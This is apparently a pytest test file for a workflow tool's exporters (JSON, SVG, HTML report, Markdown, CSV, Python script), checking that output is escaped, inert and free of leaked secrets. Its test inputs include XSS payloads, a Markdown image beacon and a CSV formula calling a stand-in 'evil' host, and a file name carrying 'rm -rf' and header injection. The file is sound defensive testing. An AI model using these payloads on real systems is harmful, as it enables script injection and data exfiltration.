"""Each format: that it is whole, escaped, and read back where it can be."""

from __future__ import annotations

import ast
import csv
import io
import os
import re
import time
import tomllib
import xml.etree.ElementTree as ET
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Literal

import pytest
from hypothesis import given, settings

from conductor.exports import FORMATS, NothingToExport, export
from conductor.exports.document import NotARunDocument, read_run, run_json
from conductor.exports.escaping import json_for_script, visible
from conductor.exports.figures import seconds, tokens, usd
from conductor.exports.markdown import MAX_CHARS, rendered
from conductor.exports.report import run_report
from conductor.exports.script import workflow_script
from conductor.exports.sheet import cell, csv_text, steps_csv
from conductor.exports.svg import workflow_svg
from conductor.exports.svg_text import shortened, width, wrapped
from conductor.exports.svg_theme import COLOURS, ICON_PATHS
from conductor_client.events import RunCreated, RunEvent
from conductor_client.run_state import fold
from conductor_client.workflow import workflow_of
from tests.conductor.exports.runs import (
    HOSTILE,
    START,
    finished,
    hostile_workflow,
    odd_ids,
    rich_events,
    skipped_events,
)
from tests.strategies import run_logs

SVG = "{http://www.w3.org/2000/svg}"
RUNS = {
    "rich": rich_events(),
    "failed": rich_events(failed=True),
    "skipped": skipped_events(),
    "hostile": finished(hostile_workflow()),
    "odd ids": finished(odd_ids(hostile_workflow())),
}


class Tags(HTMLParser):
    """What a browser makes of the page: its elements with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.said: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.said.append(data)


# All formats


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize("run", RUNS)
def test_every_prefix_of_every_run_can_be_exported(format: str, run: str) -> None:
    events = RUNS[run]
    for length in (1, 3, len(events) // 2, len(events)):
        state = fold(events[:length])
        if state.workflow is None and format not in ("json", "html", "csv"):
            with pytest.raises(NothingToExport):
                export(state, events[:length], format)  # type: ignore[arg-type]  # from the list of formats
            continue
        made = export(state, events[:length], format)  # type: ignore[arg-type]  # from the list of formats
        made.body.decode("utf-8")
        assert re.fullmatch(r"[A-Za-z0-9_-]+(\.[a-z]+)+", made.filename)


@settings(max_examples=30)
@given(run_logs())
def test_any_run_can_be_exported_in_every_format(events: list[RunEvent]) -> None:
    state = fold(events)
    for format in FORMATS:
        assert export(state, events, format).body  # type: ignore[arg-type]  # from the list of formats


@pytest.mark.parametrize("format", FORMATS)
def test_nothing_comes_from_the_environment(format: str, monkeypatch: pytest.MonkeyPatch) -> None:
    marker = "sk-marker-5f1e9c"
    for name in ("MARKER_KEY", "OPENAI_API_KEY", "CONDUCTOR_TOKEN"):
        monkeypatch.setenv(name, marker)
    body = export(fold(RUNS["rich"]), RUNS["rich"], format).body  # type: ignore[arg-type]  # as above
    assert marker.encode() not in body
    assert os.environ["HOME"].encode() not in body


def test_unknown_format_is_said_with_the_known_ones() -> None:
    with pytest.raises(ValueError, match=r"no export format 'pdf'.*json, lists"):
        export(fold(RUNS["rich"]), [], "pdf")  # type: ignore[arg-type]  # the point of the test


def test_file_name_is_safe_whatever_the_run_is_called() -> None:
    state = fold(RUNS["rich"]).model_copy(update={"run_id": '../"; rm -rf\r\nX: y'})
    assert export(state, [], "json").filename == "rm-rf-X-y.json"


def test_twenty_megabytes_of_output_make_usable_files() -> None:
    huge = "word <b>&amp; " * 1_500_000
    events = finished(workflow_of("p", [("a", "one", []), ("b", "two", [0])]), output=huge)
    state = fold(events)
    began = time.perf_counter()
    sizes = {format: len(export(state, events, format).body) for format in FORMATS}  # type: ignore[arg-type]
    assert sizes["svg"] < 30_000
    assert sizes["html"] < 5_000_000
    assert sizes["json"] > 60_000_000
    assert time.perf_counter() - began < 20


# JSON


@pytest.mark.parametrize("run", RUNS)
def test_json_comes_back_equal(run: str) -> None:
    events = RUNS[run]
    state = fold(events)
    read = read_run(run_json(state, events))
    assert read.state == state
    assert list(read.events) == events
    assert fold(read.events) == state
    assert (read.workflow, read.plan) == (state.workflow, state.plan)


@settings(max_examples=50)
@given(run_logs())
def test_any_run_survives_json(events: list[RunEvent]) -> None:
    assert fold(read_run(run_json(fold(events), events)).events) == fold(events)


@pytest.mark.parametrize("text", ["", "[]", "{}", '{"format": "other", "version": 1}', "\x00", "[" * 100_000])
def test_other_json_is_no_run(text: str) -> None:
    with pytest.raises(NotARunDocument):
        read_run(text)


def test_newer_or_damaged_export_says_so() -> None:
    good = run_json(fold(RUNS["rich"]), [])
    with pytest.raises(NotARunDocument, match="version 2"):
        read_run(good.replace('"version": 1', '"version": 2', 1))
    with pytest.raises(NotARunDocument, match="damaged"):
        read_run(good.replace('"status": "succeeded"', '"status": "odd"', 1))


# SVG


@pytest.mark.parametrize("theme", ["light", "dark", "auto"])
@pytest.mark.parametrize("run", RUNS)
def test_svg_is_well_formed_and_can_do_nothing(run: str, theme: str) -> None:
    state = fold(RUNS[run])
    drawn = ET.fromstring(export(state, [], "svg", theme=theme).body)  # type: ignore[arg-type]  # as above
    allowed = {"svg", "title", "style", "path", "rect", "circle", "g", "text"}
    for node in drawn.iter():
        assert node.tag.removeprefix(SVG) in allowed
        assert not any(name.startswith("on") or "href" in name for name in node.attrib)
    style = drawn.find(f"{SVG}style")
    assert style is not None and style.text is not None
    assert "url(" not in style.text and "@import" not in style.text
    assert ("prefers-color-scheme" in style.text) == (theme == "auto")


def test_svg_shows_every_step_with_worker_status_and_output() -> None:
    drawn = ET.fromstring(export(fold(RUNS["rich"]), [], "svg").body)
    said = " ".join(node.text or "" for node in drawn.iter(f"{SVG}text"))
    for word in (
        "qwen-0.5b",
        "calculator",
        "153",
        "Reused",
        "unused by the answer",
        "≥ 328 tokens · cost unknown",
        "Prompt",
    ):
        assert word in said
    classes = [node.get("class", "") for node in drawn.iter(f"{SVG}rect")]
    assert sum(each.startswith("g-card") for each in classes) == 4
    failed = ET.fromstring(export(fold(RUNS["failed"]), [], "svg").body)
    assert "The worker refused." in " ".join(node.text or "" for node in failed.iter(f"{SVG}text"))


def test_workflow_without_a_run_can_be_drawn() -> None:
    drawn = ET.fromstring(workflow_svg(hostile_workflow(), theme="dark"))
    cards = [node for node in drawn.iter(f"{SVG}rect") if (node.get("class") or "").startswith("g-card")]
    assert [node.get("class") for node in cards] == ["g-card"] * len(HOSTILE)


def test_same_run_is_the_same_drawing() -> None:
    assert export(fold(RUNS["rich"]), [], "svg").body == export(fold(RUNS["rich"]), [], "svg").body


def test_drawing_has_the_icons_of_the_live_graph() -> None:
    source = Path("components/workflow_graph/assets/icons.js").read_text(encoding="utf-8")
    theirs = dict(re.findall(r'^  (\w+): "([^"]+)",$', source, re.MULTILINE))
    assert {name: theirs[name] for name in ICON_PATHS} == ICON_PATHS


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_drawing_has_the_colours_of_the_page(theme: Literal["light", "dark"]) -> None:
    page = tomllib.loads(Path(".streamlit/config.toml").read_text(encoding="utf-8"))["theme"][theme]
    names = {
        "page": "backgroundColor",
        "line": "borderColor",
        "ink": "textColor",
        "soft": "grayTextColor",
        "running": "blueTextColor",
        "good": "greenTextColor",
        "bad": "redTextColor",
        "reused": "violetTextColor",
    }
    assert {name: page[key] for name, key in names.items()} == {name: COLOURS[theme][name] for name in names}


def test_wrapped_lines_fit_and_lose_no_word() -> None:
    said = "The quick brown fox, 敏捷的棕色狐狸跳过了懒狗, " + "unbreakable" * 9 + " and 👩‍👩‍👧‍👦 again."
    lines = wrapped(said, 120, 12, most=99)
    assert all(width(line, 12) <= 120 for line in lines)
    assert "".join(lines).replace(" ", "") == said.replace(" ", "")
    short = wrapped(said, 120, 12, most=2)
    assert len(short) == 2
    assert short[-1].endswith("…")
    assert width(short[-1], 12) <= 120
    assert wrapped("fits", 120, 12, most=2) == ["fits"]
    assert wrapped(" \n ", 120, 12, most=2) == []
    assert shortened("a " * 100, 50, 12).endswith("…")


# HTML


@pytest.mark.parametrize("run", RUNS)
def test_report_holds_no_script_no_handler_no_request(run: str) -> None:
    page = Tags(run_report(fold(RUNS[run])))
    for tag, attributes in page.found:
        assert tag not in {
            "script",
            "img",
            "iframe",
            "link",
            "object",
            "embed",
            "base",
            "form",
            "image",
            "use",
        }
        assert not any(
            name.startswith("on") or name in {"src", "srcdoc", "xlink:href"} for name in attributes
        )
        assert (attributes.get("href") or "#").startswith(("#", "https://example.org/"))
    policy = [attributes for tag, attributes in page.found if attributes.get("http-equiv")]
    assert (
        policy[0]["content"]
        == "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"
    )


def test_report_shows_every_hostile_text_as_text() -> None:
    said = "".join(Tags(run_report(fold(RUNS["hostile"]))).said)
    for label in HOSTILE:
        assert visible(label).strip() in said


def test_report_tells_the_whole_run() -> None:
    state = fold(RUNS["rich"])
    page = run_report(state)
    said = " ".join(" ".join(Tags(page).said).split())
    for words in (
        "A train leaves at 14:20",
        "2 hours and 33 minutes",
        "≥ $0.0012",
        "≥ 894",
        "Reused from run_parent",
        "step 1 , step 2 · Withheld: step 3",
        "Sees only the prompt · Withheld: step 1 , step 2",
        "You are one of several workers.",
        "165 minus 12 is 153",
        "overloaded: The server is busy (503).",
        "The output ended at the limit of 16 tokens.",
        "unused by the answer",
        "Attempt 1, refused",
        "I would ask everyone.",
        "unparsable",
        "repaired_quotes step 3: Quotation marks were mended.",
        "97 %",
        "Arithmetic is safer with the calculator.",
        "Forked from run_parent",
        "Step 2 was given to calculator",
        "Step 4 now sees: 1, 2",
        "max_usd 0.5",
        "2026-03-01 09:30:00 UTC",
        "$1.25 in, $10 out per million tokens (pool file)",
    ):
        assert words in said, words
    assert "<strong>2 hours and 33 minutes</strong>" in page
    assert 'href="https://example.org/t?a=1&amp;b=2"' in page
    assert 'href="#step-1-1"' in page
    assert "MARKER_KEY" not in page


def test_report_shows_a_failure_with_its_hint_and_what_was_written() -> None:
    said = " ".join(Tags(run_report(fold(RUNS["failed"]))).said)
    for words in (
        "step_failed: Step 4 failed.",
        "Try another worker.",
        "I cannot",
        "partial",
        "There is no answer.",
    ):
        assert words in said
    assert "It needed step 1." in " ".join(Tags(run_report(fold(RUNS["skipped"]))).said)


def test_report_keeps_messages_byte_for_byte() -> None:
    content = "\n  two  spaces\n\nand `ticks` <b>&amp;</b>\n"
    events = finished(workflow_of("p", [("a", content, [])]))
    page = run_report(fold(events))
    found = re.findall(r'<pre class="text">\n(.*?)</pre>', page, re.DOTALL)
    assert "p\n" + content in [
        part.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&") for part in found
    ]


# Markdown


@pytest.mark.parametrize(
    "attack",
    [
        "![x](http://evil/?d=1)",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<svg onload=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "<javascript:alert(1)>",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](//evil/)",
        "[x](/api/runs)",
        "![x][r]\n\n[r]: http://evil/",
        '```js"><img src=x onerror=alert(1)>\nx\n```',
        '[x](https://ok/"onmouseover="alert(1))',
    ],
)
def test_markdown_of_models_loads_and_runs_nothing(attack: str) -> None:
    page = Tags(rendered(attack) or "")
    assert {tag for tag, _ in page.found} <= {"p", "a", "pre", "code"}
    for _, attributes in page.found:
        assert set(attributes) <= {"href", "rel", "target", "class"}
        assert (attributes.get("href") or "https://").startswith(("http://", "https://"))


def test_markdown_draws_what_answers_use() -> None:
    drawn = rendered("# T\n\n- a\n\n|x|y|\n|-|-|\n|1|2|\n\n**b** ~~s~~ `c` <https://e.org>\n\n    code") or ""
    for part in ("<h1>", "<ul>", "<table>", "<strong>", "<s>", "<code>", 'href="https://e.org"', "<pre>"):
        assert part in drawn


def test_long_answers_are_shown_raw_at_once() -> None:
    assert rendered("[" * (MAX_CHARS + 1)) is None
    began = time.perf_counter()
    rendered("[" * MAX_CHARS)
    assert time.perf_counter() - began < 8


# CSV, Python, small things


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_formula_becomes_text_in_csv(start: str) -> None:
    assert cell(f"{start}1+1").startswith("'")
    text = csv_text(["a"], [{"a": f'{start}HYPERLINK("http://evil")'}])
    (_, (value,)) = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
    assert value.startswith("'")


def test_csv_of_a_run_has_a_line_per_step() -> None:
    rows = list(csv.DictReader(io.StringIO(steps_csv(fold(RUNS["rich"])).removeprefix("\ufeff"))))
    assert [row["worker"] for row in rows] == ["qwen-0.5b", "calculator", "smollm2-135m", "qwen-1.5b"]
    assert [row["status"] for row in rows] == ["reused", "succeeded", "succeeded", "succeeded"]
    assert rows[2]["input_tokens"] == "60"
    assert rows[2]["output_tokens"] == rows[2]["cost_usd"] == ""
    assert rows[3]["access"] == "s1 s2"
    assert rows[0]["output"] == "(17*60+5) - (14*60+20) - 12"
    hostile = list(csv.DictReader(io.StringIO(steps_csv(fold(RUNS["hostile"])).removeprefix("\ufeff"))))
    assert len(hostile) == len(HOSTILE)
    assert hostile[HOSTILE.index("=1+1")]["instruction"] == "'=1+1"


@pytest.mark.parametrize("run", RUNS)
def test_script_is_python_and_holds_the_workflow_exactly(run: str) -> None:
    workflow = fold(RUNS[run]).workflow
    assert workflow is not None
    tree = ast.parse(workflow_script(workflow, filename="run.py"))
    values = {
        node.targets[0].id: ast.literal_eval(node.value)
        for node in tree.body
        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name)
    }
    place = {step.step_id: step.position for step in workflow.steps}
    assert values["PROMPT"] == workflow.prompt
    assert values["STEPS"] == [
        {
            "worker": step.worker,
            "instruction": step.instruction,
            "access": [place[seen] for seen in step.access],
        }
        for step in workflow.steps
    ]
    outside = [node for node in tree.body if not isinstance(node, ast.Assign | ast.Import | ast.ImportFrom)]
    assert [type(node).__name__ for node in outside] == ["Expr", "FunctionDef", "If"]


def test_json_in_a_script_element_cannot_end_it() -> None:
    written = json_for_script({"x": "</script><!--\u2028&", "y": "<script>"})
    assert not {"<", ">", "&", "\u2028"} & set(written)
    assert ast.literal_eval(written) == {"x": "</script><!--\u2028&", "y": "<script>"}


def test_figures_tell_unknown_from_zero() -> None:
    assert usd(None) == usd(Decimal(0), complete=False) == "unpriced"
    assert usd(Decimal(0)) == "$0"
    assert usd(Decimal("0.00118")) == "$0.0012"
    assert usd(Decimal("0.00118"), complete=False) == "≥ $0.0012"
    assert usd(Decimal("1234.5")) == "$1,234.50"
    assert usd(Decimal("0.00000001")) == "< $0.0001"
    assert (tokens(None), tokens(0), tokens(1234, complete=False)) == ("unknown", "0", "≥ 1,234")
    assert [seconds(each) for each in (None, 0.04, 12.3, 125, 7300)] == [
        "–",
        "0.0 s",
        "12 s",
        "2 min 05 s",
        "2 h 01 min",
    ]


def test_run_without_anything_has_a_report() -> None:
    state = fold([RunCreated(run_id="run_0", seq=1, at=START, prompt=" ", conductor="local")])
    said = " ".join(Tags(run_report(state)).said)
    assert "Run without a prompt" in said
    assert "Queued" in said
